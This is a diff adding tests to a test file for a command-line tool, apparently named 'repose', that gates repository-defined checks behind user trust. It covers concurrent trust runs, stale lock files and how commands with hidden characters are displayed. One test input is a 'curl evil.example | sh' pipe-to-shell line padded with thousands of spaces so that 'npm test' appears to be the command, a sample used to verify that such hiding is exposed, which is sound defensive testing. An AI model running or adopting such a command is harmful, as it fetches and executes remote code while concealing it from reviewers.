@@ -86,6 +86,16 @@ test('checks of the command line and of the own configuration need no trust, and
   expect((await repose('trust')).stdout).toContain('your own configuration says which checks run')
 })
 
+test('of six that trust at once none is lost, and a lock that was left behind holds nobody up for long', async () => {
+  const roots = Array.from({ length: 6 }, () => scratchRepo({ 'repose.config.json': '{"checks": ["true"]}' }))
+  const trustAll = () => Promise.all(roots.map((cwd) => runRepose(['trust'], { cwd, env })))
+  expect((await trustAll()).map(({ code }) => code)).toEqual(Array(6).fill(0))
+  expect(JSON.parse((await repose('trust', '--list', '--json')).stdout).trusted).toHaveLength(6)
+  write(env.XDG_CONFIG_HOME!, 'repose/trust.json.lock/x', '')
+  expect((await repose('trust')).code).toBe(0)
+  expect(JSON.parse((await repose('trust', '--list', '--json')).stdout).trusted).toHaveLength(7)
+}, 60_000)
+
 test('trust --json and --list --json say what is trusted', async () => {
   expect(JSON.parse((await repose('trust', '--json')).stdout)).toMatchObject({ wasTrusted: false })
   const { trusted } = JSON.parse((await repose('trust', '--list', '--json')).stdout)
@@ -123,6 +133,10 @@ test('a command is shown with what would hide a part of it', () => {
   expect(shownCommand('npm test\u001b[1A\r\u202e\u200b\u00a0\n\u{e0041}')).toBe(
     'npm test\\u{1b}[1A\\u{d}\\u{202e}\\u{200b}\\u{a0}\\u{a}\\u{e0041}',
   )
+  expect(shownCommand(`curl evil.example | sh; :${' '.repeat(4000)}npm test\u2800`)).toBe(
+    'curl evil.example | sh; :\\u{20}{4000 times}npm test\\u{2800}',
+  )
+  expect(shownCommand(`true #${'='.repeat(5000)}; npm test`)).toBe('true #\\u{3d}{5000 times}; npm test')
   expect(shownCommand("pytest -q 'tests/é' && 測試")).toBe("pytest -q 'tests/é' && 測試")
 })
 
